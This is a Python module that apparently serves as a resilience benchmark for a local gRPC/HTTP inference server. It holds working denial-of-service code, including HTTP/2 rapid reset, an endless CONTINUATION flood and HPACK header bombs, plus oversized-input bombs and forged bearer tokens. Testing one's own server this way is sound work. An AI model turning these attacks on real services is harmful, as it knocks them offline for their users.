"""The attacks. Each goes on until its time is over and returns what it did."""

import http.client
import os
import random
import struct
import subprocess
import sys
import time
from typing import Callable, NamedTuple

import http2
import messages


def busy_processors(port, seconds):
    """No attack: work of other processes on every processor, as a measure for what follows."""
    spin = f"import time\nend = time.monotonic() + {seconds}\nwhile time.monotonic() < end: pass"
    processes = [subprocess.Popen([sys.executable, "-c", spin]) for _ in range(os.cpu_count())]
    for process in processes:
        process.wait()
    return f"{len(processes)} other processes"


def hold(make, count, seconds):
    """Keeps `count` connections open; makes those anew that the server has ended."""
    end, made, kept = time.monotonic() + seconds, 0, []
    while time.monotonic() < end:
        kept = [connection for connection in kept if http2.is_open(connection)]
        try:
            while len(kept) < count and time.monotonic() < end:
                kept.append(make())
                made += 1
        except OSError:
            pass
        time.sleep(0.01)
    return made


def silent_connections(port, seconds):
    made = hold(lambda: http2.silent(port), 1_500, seconds)
    return f"{made:,} connections"


def silent_handshakes(port, seconds):
    made = hold(lambda: http2.silent_in_handshake(port), 500, seconds)
    return f"{made:,} handshakes"


def half_requests(port, seconds):
    """128 requests on each of eight connections, three bytes of each."""
    def make():
        connection = http2.Connection(port)
        for _ in range(128):
            stream = connection.begin(messages.PREDICT)
            connection.send(stream, b"\0\0\0", end=False)
        return connection

    made = hold(make, 8, seconds)
    return f"{128 * made:,} requests"


def unread_responses(port, seconds):
    """Requests of large responses, of which no byte is read."""
    request = messages.grpc_frame(messages.predict(1_000, want_input=True))

    def make():
        connection = http2.Connection(port, window=0)
        for _ in range(64):
            connection.send(connection.begin(messages.PREDICT), request, end=True)
        return connection

    made = hold(make, 4, seconds)
    return f"{64 * made:,} responses"


def flood(port, make, seconds):
    """Sends what `make` returns for a connection, which is made anew when the server has ended it.

    Returns the number of units sent and of connections."""
    end, sent, connections, connection = time.monotonic() + seconds, 0, 0, None
    while time.monotonic() < end:
        try:
            if connection is None:
                connection = http2.Connection(port)
                connections += 1
                state = {}
            units, content = make(connection, state)
            connection.socket.sendall(content)
            sent += units
            connection.drain()
        except OSError:
            connection = None
    return sent, connections


def rapid_reset(port, seconds):
    """Requests that are cancelled with the next frame (CVE-2023-44487)."""
    headers = http2.grpc_headers(messages.PREDICT)
    cancel = struct.pack(">I", http2.CANCEL)

    def make(connection, _):
        streams = [connection.new_stream() for _ in range(100)]
        return len(streams), b"".join(
            http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
            + http2.frame(http2.RST_STREAM, 0, stream, cancel) for stream in streams)

    sent, connections = flood(port, make, seconds)
    return f"{sent:,} streams, {connections:,} connections"


def endless_headers(port, seconds):
    """A request whose headers never end (CERT VU#421644)."""
    fields = http2.literal("x", "y" * 100) * 100

    def make(connection, state):
        kind = http2.CONTINUATION if state else http2.HEADERS
        stream = state.setdefault("stream", connection.next_stream)
        return 1, http2.frame(kind, 0, stream, fields)

    sent, connections = flood(port, make, seconds)
    return f"{sent:,} frames, {connections:,} connections"


def header_bombs(port, seconds):
    """Requests whose 8 kB of headers stand for 32 MB: references to one field (CVE-2016-1544)."""
    def make(connection, state):
        first = b"" if state else http2.indexed("x", "y" * 3_900)
        state["kept"] = True
        block = http2.grpc_headers(messages.PREDICT) + first + http2.NEWEST_FIELD * 8_192
        return 1, http2.frame(http2.HEADERS, http2.END_HEADERS, connection.new_stream(), block)

    sent, connections = flood(port, make, seconds)
    return f"{sent:,} requests, {connections:,} connections"


def call_repeatedly(port, path, request, in_flight, seconds, metadata=lambda: None):
    """Unary calls over gRPC; the number of each code."""
    import grpc

    codes = {}
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    with grpc.insecure_channel(f"127.0.0.1:{port}", options=options) as channel:
        method = channel.unary_unary(path)
        end, calls = time.monotonic() + seconds, []
        while time.monotonic() < end:
            content = request() if callable(request) else request
            calls.append(method.future(content, timeout=30, metadata=metadata()))
            if len(calls) >= in_flight:
                error = calls.pop(0).exception()
                code = error.code().name if error else "OK"
                codes[code] = codes.get(code, 0) + 1
        for call in calls:
            call.cancel()
    return ", ".join(f"{count:,} {code}" for code, count in sorted(codes.items()))


def greedy_batches(port, seconds):
    return call_repeatedly(port, messages.PREDICT, messages.predict(4_096), 64, seconds)


def tiny_inputs(port, seconds):
    return call_repeatedly(port, messages.MODEL_INFER, messages.tiny_inputs(16_000_000), 4, seconds)


def picture_bombs(port, seconds):
    request = messages.predict_pictures(messages.flat_png(65_535, 305), 256)
    return call_repeatedly(port, messages.PREDICT, request, 4, seconds)


def malformed_messages(port, seconds):
    generator = random.Random(7)
    return call_repeatedly(
        port, messages.MODEL_INFER, lambda: generator.randbytes(generator.randrange(1, 200)), 32, seconds)


def forged_tokens(port, seconds):
    """Tokens that are almost one of the service's, random ones, and JWTs without a signature."""
    generator = random.Random(7)

    def metadata():
        token = generator.choice([
            messages.TOKEN[:-1] + generator.choice("0123456789"), messages.TOKEN[:generator.randrange(40)],
            generator.randbytes(32).hex(), messages.unsigned_jwt(), ""])
        return [("authorization", f"Bearer {token}")] if token != messages.TOKEN else None

    return call_repeatedly(port, messages.PREDICT, messages.predict(1), 32, seconds, metadata)


def post_repeatedly(port, path, body, seconds):
    """Requests over plain HTTP, one after the other; the number of each status."""
    statuses, end = {}, time.monotonic() + seconds
    while time.monotonic() < end:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        try:
            connection.request("POST", path, body, {"Content-Type": "application/json"})
            status = connection.getresponse().status
        except OSError:
            status = "closed"
        statuses[status] = statuses.get(status, 0) + 1
        connection.close()
    return ", ".join(f"{count:,} HTTP {status}" for status, count in statuses.items())


def json_parameters(port, seconds):
    return post_repeatedly(port, "/v2/models/digits/infer", messages.parameters_document(10_700_000), seconds)


def json_pictures(port, seconds):
    body = messages.json_list('{"pictures": {"encoded": [', '""', "]}}", 16_000_000)
    return post_repeatedly(port, messages.PREDICT, body, seconds)


def json_numbers(port, seconds):
    body = messages.json_list('{"inputs": [{"contents": {"fp64Contents": [', "0", "]}}]}", 16_000_000)
    return post_repeatedly(port, messages.MODEL_INFER, body, seconds)


class Attack(NamedTuple):
    run: Callable
    # What the server is started with, and the polite client uses.
    tls: bool = False
    tokens: bool = False


ALL = {
    "nothing": Attack(lambda port, seconds: time.sleep(seconds) or ""),
    "nothing, but processors busy": Attack(busy_processors),
    "silent connections": Attack(silent_connections),
    "silent TLS handshakes": Attack(silent_handshakes, tls=True),
    "half a request each": Attack(half_requests),
    "responses nobody reads": Attack(unread_responses),
    "rapid reset": Attack(rapid_reset),
    "headers without an end": Attack(endless_headers),
    "headers of 32 MB in 8 kB": Attack(header_bombs),
    "batches of 4,096, 64 at once": Attack(greedy_batches),
    "8 million empty inputs": Attack(tiny_inputs),
    "256 PNG of 20 MP a request": Attack(picture_bombs),
    "10.7 MB of JSON parameters": Attack(json_parameters),
    "5 million pictures in JSON": Attack(json_pictures),
    "8 million numbers in JSON": Attack(json_numbers),
    "random messages": Attack(malformed_messages),
    "forged tokens": Attack(forged_tokens, tokens=True),
}
